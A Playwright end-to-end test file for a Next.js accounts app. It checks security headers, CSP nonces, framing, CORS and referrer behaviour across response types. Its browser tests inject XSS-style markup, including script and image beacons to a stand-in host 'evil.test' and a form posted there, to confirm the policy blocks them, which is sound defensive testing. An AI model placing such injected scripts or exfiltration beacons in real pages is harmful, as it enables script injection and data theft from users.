// The headers of every kind of answer, and their effect in a real browser. In all specs the test client checks each
// answer against e2e/support/header-rule.ts; this spec covers all kinds of answers.
import { once } from 'node:events'
import { mkdtemp, rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { expect, test } from '#e2e/fixtures.ts'
import { copyBuild } from '#e2e/support/build-copy.ts'
import { findActionId, findStaticFile } from '#e2e/support/build-manifests.ts'
import { Client } from '#e2e/support/client.ts'
import { encodeActionCall } from '#e2e/support/form-body.ts'
import { headerBreaches } from '#e2e/support/header-rule.ts'
import { type Answer, navigationHeaders } from '#e2e/support/http.ts'
import { startPlainNext } from '#e2e/support/plain-next.ts'
import type { TestServer } from '#e2e/support/server.ts'

// Independent of the store.
const tag = '@json'

const rsc = { rsc: '1', 'sec-fetch-dest': 'empty', 'sec-fetch-mode': 'cors', 'sec-fetch-site': 'same-origin' }

type Ask = (client: Client) => Promise<Answer>

/** As the router fetches it; Next first redirects to a URL with a checksum. */
async function fetchPart(client: Client, path: string): Promise<Answer> {
  const sentOn = await client.send({ path, headers: rsc })
  return client.send({ path: sentOn.location ?? path, headers: rsc })
}

async function callAction(client: Client, headers: Record<string, string> = {}): Promise<Answer> {
  const { body, headers: type } = encodeActionCall([
    ...(await client.formToken()),
    ['fullName', 'Zoë'],
    ['bio', ''],
    ['age', ''],
  ])
  const id = findActionId('app/(member)/profile/edit/actions.ts#saveProfile')
  return client.fetch('/profile/edit', { method: 'POST', body, headers: { ...type, 'next-action': id, ...headers } })
}

const post = (client: Client, at: string, headers: Record<string, string>, body?: string) =>
  client.send({
    method: 'POST',
    path: at,
    headers: { ...navigationHeaders, origin: client.origin, ...headers },
    ...(body !== undefined && { body }),
  })

/** Each kind of answer with its status. The client is logged in where the answer needs it. */
const visitorAnswers: Record<string, [status: number, ask: Ask]> = {
  'a page': [200, (client) => client.open('/login')],
  'the router’s part of a page': [200, (client) => fetchPart(client, '/login')],
  'middleware’s redirect': [303, (client) => client.open('/profile')],
  'the redirect of a mailed link': [303, (client) => client.open('/reset-password?token=abc')],
  'a redirect to the right spelling': [308, (client) => client.open('/login/')],
  'a static file': [200, (client) => client.open(findStaticFile())],
  'a static file that is not there': [404, (client) => client.open('/_next/static/chunks/none.js')],
  'the not-found page past middleware': [404, (client) => client.open('/_next/data/x/login.json')],
  'the icon': [200, (client) => client.open('/icon.svg')],
  'a method that a file does not have': [405, (client) => post(client, '/icon.svg', {})],
  'a method that a handler does not have': [405, (client) => client.open('/logout')],
  'a handler': [401, (client) => client.fetch('/api/session')],
  'a health check': [200, (client) => client.open('/healthz')],
  'the readiness check': [200, (client) => client.open('/readyz')],
  'a form refused': [200, (client) => client.submit('/login', 'Log in', { username: 'nobody', password: 'nothing' })],
  'a form from elsewhere': [403, (client) => post(client, '/login', { origin: 'https://evil.test' }, 'a=b')],
  'a form that cannot be read': [
    400,
    (client) => post(client, '/login', { 'content-type': 'multipart/form-data; boundary=x' }, 'garbage'),
  ],
  'a form in another encoding': [415, (client) => post(client, '/login', { 'content-type': 'text/csv' }, 'a,b')],
  'a form too large': [413, (client) => post(client, '/login', { 'content-length': '9999999' })],
  'a form of unknown length': [411, (client) => post(client, '/login', { 'transfer-encoding': 'chunked' })],
  'a method that nobody takes': [400, (client) => client.send({ method: 'TRACE', path: '/login' })],
  'headers too large': [431, (client) => client.open('/login', { cookie: `a=${'x'.repeat(40_000)}` })],
}

const memberAnswers: Record<string, [status: number, ask: Ask]> = {
  'a private page': [200, (client) => client.open('/profile')],
  'the router’s part of a private page': [200, (client) => fetchPart(client, '/profile')],
  'the not-found page': [404, (client) => client.open('/nowhere')],
  'a page’s redirect': [307, (client) => client.open('/login')],
  'a private handler': [200, (client) => client.fetch('/api/session')],
  'an answer without content': [204, (client) => client.fetch('/api/session/activity', { method: 'POST' })],
  'an action by script': [200, (client) => callAction(client)],
  'an action by form': [
    303,
    (client) => client.submit('/profile/edit', 'Save profile', { fullName: '', bio: '', age: '' }),
  ],
  'a download': [200, (client) => client.open('/security/export')],
  'a log-out': [303, (client) => client.logOut()],
}

const proves = '[V3.2.1, V3.4.3, V3.4.4, V3.4.5, V3.4.6, V3.4.8, V3.5.8, T6, T12]'

const planted = "script-src 'nonce-AAAAAAAAAAAAAAAAAAAAAA'"
const plantedPolicy = {
  'content-security-policy': planted,
  'content-security-policy-report-only': planted,
  'x-nonce': 'AAAAAAAAAAAAAAAAAAAAAA',
  'x-middleware-request-x-nonce': 'AAAAAAAAAAAAAAAAAAAAAA',
}

/** Returns the nonce of the policy. Each script of a page has it, and no other script runs. */
function expectNonces(path: string, { status, headers, text }: Answer): string {
  const nonce = /'nonce-([\w-]{22})'/.exec(String(headers['content-security-policy']))?.[1] ?? 'none'
  const isPage = headers['content-type']?.startsWith('text/html')
  const scripts = isPage ? (text.match(/<script[^>]*>/g) ?? []) : []
  // Our server's page for nothing found has none.
  if (isPage && status !== 404) expect(scripts.length, path).toBeGreaterThan(5)
  for (const script of scripts) expect(script, path).toContain(` nonce="${nonce}"`)
  if (isPage) expect(text, path).not.toMatch(/<style|\sstyle=|\son\w+="|javascript:/)
  expect(JSON.stringify(headers) + text, path).not.toContain('AAAAAAAAAA')
  return nonce
}

async function expectEveryAnswerDressed(server: TestServer): Promise<void> {
  const visitor = new Client(server.url, server.address)
  const member = new Client(server.url, server.address)
  await member.signUp()
  for (const [client, answers] of [
    [visitor, visitorAnswers],
    [member, memberAnswers],
  ] as const) {
    for (const [what, [status, ask]] of Object.entries(answers)) {
      const answer = await ask(client)
      expect.soft(answer.status, what).toBe(status)
      expect.soft(headerBreaches(server.url, answer), what).toEqual([])
      // A type without scripts says so as well.
      if (status === 200) expect.soft(answer.headers['content-type'], what).toBeDefined()
    }
  }
}

test(
  `every kind of answer carries the whole set; plain http is no reason to ask for https ${proves}`,
  { tag },
  ({ server }) => expectEveryAnswerDressed(server),
)

test(`every kind of answer of a site under https sends HSTS [V3.4.1, T12]`, { tag }, async ({ startOwnServer }) => {
  const env = { APP_URL: 'https://accounts.example.test', HOST: '127.0.0.1', LIMITS: 'on' }
  await expectEveryAnswerDressed(await startOwnServer({ env }))
})

test('under Next’s own server it has them too, with a nonce in each page that the client did not choose [V3.4.3, T12]', {
  tag,
}, async () => {
  const dataDir = await mkdtemp(path.join(tmpdir(), 'gatehouse-e2e-'))
  const site = await startPlainNext({ DATA_DIR: dataDir })
  const client = new Client(site.url)
  await client.signUp()
  for (const at of ['/', '/login', '/nowhere', '/healthz', '/icon.svg', '/api/session', findStaticFile()]) {
    const answer = await client.open(at, plantedPolicy)
    expect(headerBreaches(site.url, answer), at).toEqual([])
    expectNonces(at, answer)
  }
  await site.stop()
  await rm(dataDir, { recursive: true })
  expect(site.faults()).toEqual([])
})

test('broken pages have them too, including the global error page, and keep their styles [V3.4.3, V3.4.6, T12]', {
  tag,
}, async ({ startOwnServer, page, expectedNoise }) => {
  expectedNoise.push(/500 \(Internal Server Error\)|Minified React error|An error occurred in the Server Components/)
  const copy = await copyBuild()
  await copy.change(/"forgot\.title"/g, '"no such words"')
  const server = await startOwnServer({ projectDir: copy.dir, expectFaults: true })
  const client = new Client(server.url)

  async function expectBrokenPage(path: string): Promise<void> {
    const answer = await client.open(path)
    expect(answer.status).toBe(500)
    expect(headerBreaches(server.url, answer)).toEqual([])
    await page.goto(`${server.url}${path}`)
    await expect(page.getByRole('heading', { name: 'Something went wrong' })).toBeVisible()
    const alert = page.getByRole('alert').filter({ hasText: 'Something went wrong' })
    await expect(alert).toHaveCSS('border-top-style', 'solid')
  }

  await expectBrokenPage('/forgot-password')
  // The root layout: only global-error remains.
  await copy.change(/lang:(\w+)\.locale/g, 'lang:$1.gone.locale')
  await server.restart()
  await expectBrokenPage('/login')
  // An invalid program: Next then has no page at all.
  await copy.change(/^/, 'throw 0;')
  await server.restart()
  const answer = await client.open('/login')
  expect(answer.status).toBe(500)
  expect(headerBreaches(server.url, answer)).toEqual([])
  await server.stop()
  await copy.remove()
})

test('each script of a page has the page’s nonce, which is new for each page and never the client’s [V3.4.3, T2, T12]', {
  tag,
}, async ({ client }) => {
  // With these two, the matcher of Next's own guide would leave the page without a policy.
  const headers = { ...plantedPolicy, 'next-router-prefetch': '1', purpose: 'prefetch' }
  await client.signUp()
  const seen = new Set<string>()
  const paths = ['/', '/', '/profile', '/nowhere', '/security', '/_next/data/x/login.json', '/not-me', '/setup']
  for (const path of paths) seen.add(expectNonces(path, await client.open(path, headers)))
  expect(seen.size).toBe(paths.length)
})

test.describe('in a browser', { tag }, () => {
  /** A page of another origin on the same site, to whose requests the browser adds our cookies. */
  async function openNeighbour(page: Page, body: string): Promise<{ url: string; referrers: (string | undefined)[] }> {
    const referrers: (string | undefined)[] = []
    const neighbour = createServer((request, response) => {
      if (request.url === '/') referrers.push(request.headers.referer)
      response.setHeader('content-type', 'text/html').end(request.url === '/' ? `<title>Next door</title>${body}` : '')
    })
    neighbour.listen(0, '127.0.0.1').unref()
    await once(neighbour, 'listening')
    page.once('close', () => neighbour.close().closeAllConnections())
    const url = `http://localhost:${(neighbour.address() as AddressInfo).port}/`
    await page.goto(url)
    return { url, referrers }
  }

  test('an injected script does not run and is reported on the console [V3.4.3, T12]', async ({
    loggedInPage: page,
    expectedNoise,
  }) => {
    const complaints: string[] = []
    page.on('console', (message) => complaints.push(message.text()))
    expectedNoise.push(/Content Security Policy|https:\/\/evil\.test\/\S* csp|Minified React error/)
    await page.addInitScript(() => {
      const seen = { ran: [] as string[], violated: [] as string[] }
      document.addEventListener('securitypolicyviolation', (event) => seen.violated.push(event.effectiveDirective))
      Object.assign(window, { seen, ran: (what: string) => seen.ran.push(what) })
    })
    await page.route('/profile', async (route) => {
      const response = await route.fetch()
      const smuggled = `<script>ran('inline')</script><script src="https://evil.test/a.js"></script>
        <img src="/icon.svg" onload="ran('handler')"><base href="https://evil.test/"><style>main{display:none}</style>
        <p style="color:red"></p><iframe srcdoc="<script>parent.ran('frame')</script>"></iframe>
        <img src="https://evil.test/collect?what"><object data="/login"></object>`
      const body = (await response.text()).replace('</main>', `${smuggled}</main>`)
      await route.fulfill({ response, body })
    })
    await page.goto('/profile')
    await page.evaluate(async () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/' })
      document.body.append(form)
      form.submit()
      await fetch('https://evil.test/collect').catch(() => {})
    })
    const seen = () => page.evaluate(() => (window as unknown as { seen: { ran: string[]; violated: string[] } }).seen)
    const sources = ['base-uri', 'connect-src', 'form-action', 'img-src', 'object-src']
    const code = ['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']
    await expect.poll(async () => [...new Set((await seen()).violated)].sort()).toEqual([...sources, ...code])
    expect((await seen()).ran).toEqual([])
    expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThan(5)
    expect(await page.evaluate(() => location.pathname)).toBe('/profile')
  })

  test('no other page can frame this site, even one that shares its cookies [V3.4.6, T12]', async ({
    loggedInPage: page,
    server,
    expectedNoise,
  }) => {
    expectedNoise.push(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE|status of 40[45]/)
    const framed = ['/login', '/profile', '/nowhere', '/icon.svg', '/api/session', '/logout']
    await openNeighbour(page, framed.map((at) => `<iframe src="${server.url}${at}"></iframe>`).join(''))
    const frames = page.frames().slice(1)
    expect(frames).toHaveLength(framed.length)
    for (const frame of frames) await expect.poll(() => frame.url()).toMatch(/^chrome-error:/)
  })

  test('no other page can load, read or keep a handle on a user’s pages [V3.2.1, V3.4.8, V3.5.8]', async ({
    loggedInPage: page,
    server,
    expectedNoise,
  }) => {
    expectedNoise.push(/ERR_BLOCKED_BY|CORS policy|net::ERR_FAILED/)
    await openNeighbour(page, '')
    const reached = await page.evaluate(async (url) => {
      const load = (name: 'img' | 'script' | 'link', at: string) =>
        new Promise<string>((resolve) => {
          const element = document.createElement(name)
          element.onload = () => resolve('loaded')
          element.onerror = () => resolve('refused')
          if (element instanceof HTMLLinkElement) Object.assign(element, { rel: 'stylesheet', href: at })
          else element.src = at
          document.body.append(element)
        })
      const read = (at: string) =>
        fetch(at, { credentials: 'include' }).then(
          () => 'read',
          () => 'refused',
        )
      return Promise.all([
        load('img', `${url}/icon.svg`),
        load('img', `${url}/profile`),
        load('script', `${url}/api/session`),
        load('link', `${url}/profile/a.css`),
        read(`${url}/api/session`),
        read(`${url}/profile`),
      ])
    }, server.url)
    expect(reached).toEqual(Array(6).fill('refused'))

    const [popup] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate((url) => void Object.assign(window, { held: window.open(url) }), `${server.url}/profile`),
    ])
    await expect(popup.getByRole('heading', { level: 1 })).toHaveText('Profile')
    expect(await page.evaluate(() => (window as unknown as { held: Window }).held.closed)).toBe(true)
    expect(await popup.evaluate(() => window.opener)).toBeNull()
    await popup.close()
  })

  test('a link off the site does not send the path [V3.4.5]', async ({ loggedInPage: page, server }) => {
    const { url, referrers } = await openNeighbour(page, '')
    await page.goto(`${server.url}/security`)
    await page.evaluate((to) => location.assign(to), url)
    await expect(page).toHaveTitle('Next door')
    expect(referrers).toEqual([undefined, undefined])
  })
})
